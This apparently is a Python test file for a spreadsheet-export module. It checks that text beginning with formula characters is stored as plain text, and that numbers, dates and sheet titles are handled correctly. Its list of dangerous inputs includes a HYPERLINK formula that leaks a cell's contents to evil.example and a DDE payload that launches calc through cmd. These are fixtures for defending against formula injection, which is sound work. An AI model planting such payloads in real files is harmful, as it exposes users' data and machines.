"""core.excel: text is written as text (never a formula, the text kept for a reader), numbers as numbers, dates as
dates — checked by reading the files back with openpyxl and by looking at the sheet XML itself."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from gongzhi.core import excel

# Each way a cell can start a formula in Excel, WPS or LibreOffice.
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=1+1",
    "+1+1",
    "-1+1",
    "-2",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
]
HARMLESS = ["路灯不亮", "3号楼 - 2单元", "a=b", "13800138000", "0101", "e-mail: x@y.cn"]


def _round_trip(rows, *, write_only: bool):
    book = excel.Book(write_only=write_only)
    sheet = book.sheet("工单")
    for values in rows:
        sheet.row(values)
    data = book.to_bytes()
    return data, load_workbook(io.BytesIO(data)).active


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("write_only", [False, True])
def test_text_that_looks_like_a_formula_is_text_and_kept_as_written(write_only):
    data, ws = _round_trip([[text] for text in DANGEROUS + HARMLESS], write_only=write_only)
    assert "<f>" not in _sheet_xml(data) and "<f " not in _sheet_xml(data)
    for i, text in enumerate(DANGEROUS + HARMLESS, start=1):
        c = ws.cell(row=i, column=1)
        assert c.data_type == "s", (text, c.data_type)
        assert c.value == excel.clean_text(text)  # the same text; a carriage return is a line feed in XML
        # Excel's quote prefix (the invisible apostrophe) on the dangerous ones only.
        assert c.quotePrefix is (text in DANGEROUS), text


@pytest.mark.parametrize("write_only", [False, True])
def test_numbers_stay_numbers_and_dates_stay_dates(write_only):
    when = datetime(2025, 3, 1, 1, 30, tzinfo=UTC)  # 09:30 in Asia/Shanghai
    _data, ws = _round_trip(
        [[12, 3.5, Decimal("2.25"), excel.Percent(0.9573), date(2025, 3, 1), when, True, None, excel.Percent(None)]],
        write_only=write_only,
    )
    row = list(ws[1])
    assert [c.value for c in row[:3]] == [12, 3.5, 2.25]
    assert all(c.data_type == "n" for c in row[:4])
    assert row[0].number_format == excel.INTEGER_FORMAT
    assert row[3].value == pytest.approx(0.9573) and row[3].number_format == excel.PERCENT_FORMAT
    naive = datetime(2025, 3, 1)  # noqa: DTZ001 - Excel keeps no time zone: local time, naive
    assert row[4].value == naive and row[4].number_format == excel.DATE_FORMAT
    assert row[5].value == naive.replace(hour=9, minute=30) and row[5].number_format == excel.DATETIME_FORMAT
    assert row[6].value is True
    assert row[7].value is None and row[8].value is None


def test_characters_a_worksheet_cannot_hold_are_dropped_instead_of_failing():
    _data, ws = _round_trip([["a\x00b\x07c\x1fd", "x" * 40_000]], write_only=True)
    assert ws["A1"].value == "abcd"
    assert len(ws["B1"].value) == excel.MAX_CELL_CHARS


def test_sheet_titles_are_valid_and_unique():
    assert excel.sheet_title("工单/导出[2025]:*?") == "工单-导出-2025----"
    assert len(excel.sheet_title("很" * 40)) == 31
    assert excel.sheet_title("工单", taken=["工单"]) == "工单 (2)"
    book = excel.Book()
    book.sheet("指标")
    book.sheet("指标")
    assert book.wb.sheetnames == ["指标", "指标 (2)"]


def test_header_is_bold_and_frozen():
    book = excel.Book()
    sheet = book.sheet("x")
    sheet.header(["编号", "=标题"], widths=[12, 30])
    sheet.row(["a", "b"])
    ws = load_workbook(io.BytesIO(book.to_bytes())).active
    assert ws["A1"].font.b and ws["B1"].value == "=标题" and ws["B1"].data_type == "s"
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["B"].width == 30


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=60))
def test_any_text_reads_back_as_the_same_text_never_a_formula(text):
    _data, ws = _round_trip([[text]], write_only=False)
    c = ws["A1"]
    expected = excel.clean_text(text)
    if expected == "":
        assert c.value is None
        return
    assert c.data_type == "s"
    assert c.value == expected
    assert c.quotePrefix is excel.looks_like_formula(expected)
